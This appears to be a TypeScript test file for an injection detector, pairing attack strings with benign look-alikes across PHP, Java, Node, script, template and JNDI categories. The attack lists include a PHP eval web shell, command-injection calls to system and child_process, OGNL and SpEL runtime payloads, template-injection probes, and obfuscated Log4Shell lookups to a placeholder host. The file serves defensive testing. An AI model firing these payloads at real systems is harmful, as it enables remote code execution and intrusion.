import { testDetector } from "../../test/cases.ts";

testDetector("php", {
  attacks: [
    "<?php system('id'); ?>",
    "<?= $x ?>",
    "$_GET['c']",
    "';system('id');//",
    "${@print(7)}",
    'O:4:"User":1:{s:1:"a";i:1;}',
    "file_get_contents('/a')",
    "auto_prepend_file=php://input",
    ["<?php eval($_POST[1]); ?>", { header: "user-agent" }],
    ["<?php eval($_POST[1]); ?>", "cookie"],
    "opcache.enable=0",
    ["$_GET", "short"],
    ["phpinfo()", "short"],
    ["call_user_func_array", "short"],
    ["'sys'.'tem'('id')", "short"],
    ["$f('id')", "short"],
    ["scandir('/')", "short"],
  ],
  suspicious: ["phpinfo()"],
  clean: [
    "php tutorial",
    "$_GET in php",
    ["filemtime($a)", "short"],
    ["ceiling height(9ft)", "short"],
    "system (noun)",
    "file_get_contents permission denied",
    '<?xml version="1.0"?>',
    "price: $5",
    "exec summary",
    'a:1:{s:4:"lang";s:2:"en";}',
  ],
});

testDetector("java", {
  attacks: [
    "java.lang.ProcessBuilder",
    "%{(#a=@java.lang.Runtime@getRuntime())}",
    "${T(java.lang.Runtime).getRuntime()}",
    "class.module.classLoader.resources",
    "rO0ABXNyABFqYXZh",
    "new javax.script.ScriptEngineManager",
    ["%{(#dm=@ognl.OgnlContext@DEFAULT)}", { header: "content-type" }],
    ["class.classLoader.x", "name"],
    ["java.util.Scanner", "short"],
    ["groovy.lang.GroovyShell", "short"],
    ["redirect:${1}", "short"],
  ],
  clean: [
    ["java.lang.NullPointerException", "short"],
    "[Request-time API](/docs/glossary#request-time-apis)",
    "java.lang.NullPointerException",
    "java runtime environment",
    "java.util.List",
  ],
});

testDetector("node", {
  attacks: [
    "require('child_process').exec('id')",
    "process.mainModule.require",
    "a.constructor.constructor('return 1')()",
    "(function(){while(1){}})()",
    "';return true;var a='",
    '{"a":"_$$ND_FUNC$$_function(){}"}',
    ["process.exit()", "short"],
    ["while(true){}", "short"],
    ["res.end(7)", "short"],
  ],
  clean: [
    "process.env.NAME",
    "import a from 'a'; const b = a;",
    ["processing", "short"],
    "require a receipt",
    "function keys",
    "class constructor in javascript",
    "spawn point",
  ],
});

testDetector("script", {
  attacks: [
    "@{[system 'id']}",
    "__import__('os').system('id')",
    "os.system('id')",
    "IO.popen('id')",
    "Kernel.exec('id')",
    ["%x(id)", "short"],
    ["yaml.load(x)", "short"],
    ["import os", "short"],
  ],
  clean: ["@{name}", "kernel 6.1", "os.path.join", "open the door"],
});

testDetector("template", {
  attacks: [
    "{{7*7}}",
    "${9*9}",
    "#{4*4}",
    "<%= 4*4 %>",
    "{{''.__class__}}",
    "{% import os %}{{ os.popen('id') }}",
    "{{ self.x }}",
    "#set($a=1)",
    '<!--#exec cmd="id"-->',
    '<%@ page import="java.io.*" %>',
    ["{{config}}", "short"],
    ["{7*7}", "short"],
    ["{% include x %}", "short"],
    ["${param.x}", "short"],
  ],
  clean: [
    "{{ name }}",
    "<%= name %>",
    "{% if user %}Hi{% endif %}",
    "Write to <%s> or <%s> (in English).",
    ["{a}", "short"],
    "{{user.name}}",
    "${name}",
    "#{name}",
    "{{a}_{b}}",
    "\\frac{1}{2}",
    "{ a: 1 }",
    "<% tag",
  ],
});

testDetector("jndi", {
  attacks: [
    "${jndi:ldap://a.example/x}",
    "${${lower:j}ndi:rmi://a.example}",
    "${${::-j}${::-n}di:dns://a.example}",
    "${j${k:-n}di:ldap://a.example}",
    ["${jndi:ldap://a.example/x}", { header: "user-agent" }],
    ["${jndi:ldap://a.example/x}", { header: "accept-language" }],
    ["/${jndi:ldap://a.example/x}", "path"],
    ["${env:SECRET}", "short"],
    ["${sys:java.version}", { header: "x-a" }],
    "${script:javascript:f()}",
  ],
  clean: ["${env:HOME} in the settings", "jndi lookup", "${name}", "${a}${b}", "java naming"],
});
